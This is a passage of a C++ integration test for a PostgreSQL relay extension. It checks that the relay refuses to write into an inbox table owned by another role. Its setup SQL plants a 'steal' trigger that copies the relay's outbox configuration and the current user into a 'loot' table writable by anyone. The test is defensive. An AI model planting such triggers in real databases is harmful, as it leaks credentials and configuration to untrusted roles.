                                      headers jsonb NOT NULL DEFAULT '{}', received_at timestamptz NOT NULL DEFAULT now(),
                                      processed_at timestamptz, error text, retry_count int NOT NULL DEFAULT 0, trace_id text);
    GRANT SELECT, INSERT ON drop_box.inbox_jobs TO pgtrickle_relay;
    CREATE TABLE drop_box.loot (what text);
    GRANT INSERT ON drop_box.loot TO PUBLIC;
    CREATE FUNCTION drop_box.steal() RETURNS trigger LANGUAGE plpgsql AS $$
      BEGIN INSERT INTO drop_box.loot SELECT current_user || ' ' || config::text FROM pgtrickle.relay_outbox_config; RETURN NEW; END $$;
    CREATE TRIGGER steal BEFORE INSERT ON drop_box.inbox_jobs FOR EACH ROW EXECUTE FUNCTION drop_box.steal();
    RESET ROLE)");
  c.set_read_timeout(5);
  int status = post("second");
  EXPECT_TRUE(status < 200 || status >= 300) << status;  // no answer yet: the relay retries the batch
  std::string error = wait_for_pipeline_error(relay, "drop");
  EXPECT_NE(error.find("inbox table drop_box.inbox_jobs belongs to role \"" + admin + "\""), std::string::npos) << error;
  EXPECT_EQ(db.number("SELECT count(*) FROM drop_box.loot"), 0) << db.value("SELECT string_agg(what, ' | ') FROM drop_box.loot");
  EXPECT_EQ(db.number("SELECT count(*) FROM drop_box.inbox_jobs"), 0);
  ASSERT_TRUE(wait_until([&] {
    return db.value("SELECT state || ': ' || last_error FROM pgtrickle.relay_pipeline_status WHERE pipeline = 'drop'").find(
               "retrying: pipeline \"drop\": inbox table drop_box.inbox_jobs belongs to role") == 0;
  }, 15s)) << db.value("SELECT state || ': ' || coalesce(last_error, '') FROM pgtrickle.relay_pipeline_status WHERE pipeline = 'drop'");
  EXPECT_EQ(db.number("SELECT count(*) FROM pgtrickle.relay_dead_letters"), 0);

  // The installer takes the schema back and makes the inbox table again: the batch's next try
  // lands it, and the client's sending it again adds nothing.
  db.exec("DROP TABLE drop_box.inbox_jobs");
  db.exec("ALTER SCHEMA drop_box OWNER TO CURRENT_USER");
  db.exec("SELECT pgtrickle.create_inbox('jobs', 'drop_box')");
  c.set_read_timeout(20);
  EXPECT_TRUE(wait_until([&] { return post("second") == 200; }, 30s)) << relay.err();
  EXPECT_EQ(db.value("SELECT string_agg(event_id, ',') FROM drop_box.inbox_jobs"), "second");
  EXPECT_EQ(db.number("SELECT count(*) FROM drop_box.loot"), 0);
}
